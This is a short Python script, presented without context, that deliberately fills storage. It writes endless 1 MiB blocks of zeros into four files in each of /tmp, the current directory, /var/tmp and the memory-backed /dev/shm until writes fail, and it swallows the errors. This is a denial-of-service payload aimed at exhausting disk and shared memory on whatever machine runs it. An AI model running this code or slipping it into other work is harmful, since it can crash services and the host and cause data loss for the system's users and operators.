# Writes files without end wherever it can.
for folder in ("/tmp", ".", "/var/tmp", "/dev/shm"):
    for number in range(4):
        try:
            with open(f"{folder}/filled-{number}", "wb") as file:
                while True:
                    file.write(bytes(1 << 20))
        except OSError:
            pass
